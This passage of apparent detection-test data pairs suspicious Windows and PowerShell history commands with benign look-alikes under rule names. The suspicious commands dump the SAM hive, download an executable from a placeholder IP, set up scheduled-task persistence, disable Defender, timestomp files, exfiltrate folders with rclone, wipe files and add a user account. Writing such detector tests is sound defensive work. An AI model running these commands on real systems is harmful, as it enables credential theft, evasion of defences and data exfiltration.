        "Invoke-Command -ComputerName srv -ScriptBlock {x}", "Invoke-Command -ScriptBlock {x}"
    ),
    "hist.account_added": typed("net user helper secret /add", "net user helper"),
    "hist.copy_to_drive": typed("Copy-Item C:\\work E:\\ -Recurse", "Copy-Item E:\\x C:\\work"),
    "hist.credential_dump": typed("reg save HKLM\\SAM s.hiv", "reg query HKLM\\SAM"),
    "hist.download": typed("iwr http://192.0.2.1/a.exe -OutFile a.exe"),
    "hist.persistence": typed("schtasks /create /tn x /tr a.exe", "schtasks /query"),
    "hist.protection_disabled": typed("Set-MpPreference -DisableRealtimeMonitoring $true", "Get-MpPreference"),
    "hist.time_set": typed("(gi a).CreationTime = '01/01/2020'", "(gi a).CreationTime"),
    "hist.transfer_out": typed("rclone copy C:\\work box:drop", "rclone version"),
    "hist.wipe": typed("sdelete -p 3 a.docx", "dir a.docx"),
}
